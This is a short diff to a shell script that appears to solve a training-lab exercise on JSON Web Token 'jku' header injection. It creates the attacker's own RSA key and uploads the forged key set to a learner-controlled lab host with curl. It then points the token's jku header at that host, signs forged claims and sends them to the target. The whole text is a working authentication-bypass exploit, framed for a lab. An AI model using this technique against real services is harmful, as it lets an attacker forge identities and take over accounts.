@@ -3,7 +3,7 @@
 
 token="$(curl -s "$(at key-address token)")"
 own_rsa_key
-keys="$(printf '{"keys":[%s]}' "$JWK" | openssl base64 -A)"
-header="$(printf '{"alg":"RS256","jku":"data:application/json;base64,%s"}' "$keys" | b64)"
+jku="$(printf '{"keys":[%s]}' "$JWK" | curl -s -T - "$LAB/s/$LEARNER/site/keys.json")"
+header="$(printf '{"alg":"RS256","jku":"%s"}' "$jku" | b64)"
 input="$header.$(claims "$token")"
 send key-address "$input.$(rs256 "$input")"
